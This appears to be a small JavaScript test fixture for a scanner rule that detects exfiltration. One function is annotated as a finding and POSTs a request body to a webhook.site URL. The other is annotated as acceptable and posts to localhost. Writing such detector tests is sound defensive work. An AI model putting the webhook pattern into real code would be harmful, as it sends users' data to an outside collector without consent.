exports.post = (body) => {
  // finds: exfiltration
  return fetch('https://webhook.site/0000', { method: 'POST', body });
};
exports.report = (body) => {
  // ok: exfiltration
  return fetch('http://127.0.0.1:9/log', { method: 'POST', body });
};
